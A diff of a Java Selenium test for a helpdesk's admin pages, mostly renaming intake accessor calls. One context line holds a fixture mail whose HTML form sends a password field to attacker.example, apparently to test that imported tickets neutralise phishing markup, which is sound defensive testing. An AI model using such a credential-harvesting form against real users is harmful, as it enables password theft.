@@ -142,7 +142,7 @@ class AdminBrowserTest {
                 "<inv@customer.example>", "Please see the invoice.", "invoice 4711.pdf", pdf), Instant.now());
         fx.append(user, "INBOX", Mails.plain("dave@customer.example", SUPPORT, "Out of office: Invoice 4711",
                 "<ooo@customer.example>", "I am away until Monday.", "Auto-Submitted: auto-replied"), Instant.now());
-        assertThat(fx.intake().ticketQueries().count(TicketQuery.firstPage(10))).isZero();
+        assertThat(fx.intake().tickets().count(TicketQuery.firstPage(10))).isZero();
 
         d.findElement(By.cssSelector("button[data-action=poll]")).click();
         chromium.until(x -> x.findElement(By.cssSelector(".notice.ok")).getText().startsWith("Poll requested"));
@@ -176,7 +176,7 @@ class AdminBrowserTest {
         chromium.until(x -> path().startsWith("/tickets/"));
         assertThat(d.findElement(By.cssSelector(".notice.ok")).getText()).contains("Imported");
         assertThat(d.findElement(By.cssSelector("h1")).getText()).contains("Out of office: Invoice 4711");
-        assertThat(fx.intake().ticketQueries().count(TicketQuery.firstPage(10))).isEqualTo(2);
+        assertThat(fx.intake().tickets().count(TicketQuery.firstPage(10))).isEqualTo(2);
         d.get(url("/mailboxes/support"));
         assertThat(d.findElements(By.cssSelector("li.refusal"))).isEmpty();
 
@@ -207,7 +207,7 @@ class AdminBrowserTest {
                         + "<form action=\"https://attacker.example/\"><input name=\"password\"></form>"),
                 Instant.now());
         fx.intake().collection().poll(fx.intake().currentConfig().mailbox("support").orElseThrow(), () -> false);
-        long number = fx.intake().ticketQueries().list(TicketQuery.firstPage(1)).get(0).number();
+        long number = fx.intake().tickets().list(TicketQuery.firstPage(1)).get(0).number();
 
         signIn();
         d.get(url("/tickets"));
@@ -310,7 +310,7 @@ class AdminBrowserTest {
         chromium.until(x -> x.findElement(By.tagName("h1")).getText().equals("Mailbox authorized"));
         d.get(url("/"));
         assertThat(mailboxState("sales")).isEqualTo("active");
-        assertThat(fx.intake().scheduler().scheduledMailboxes()).contains("sales");
+        assertThat(fx.intake().schedule().scheduledMailboxes()).contains("sales");
     }
 
     // ---- helpers ------------------------------------------------------------------------------------------------
@@ -352,7 +352,7 @@ class AdminBrowserTest {
     }
 
     private boolean pausedByAdmin() {
-        return fx.intake().mailboxes().find("support").orElseThrow().pausedByAdmin();
+        return fx.stores().mailboxes().find("support").orElseThrow().pausedByAdmin();
     }
 
     private void assertNoAlert() {
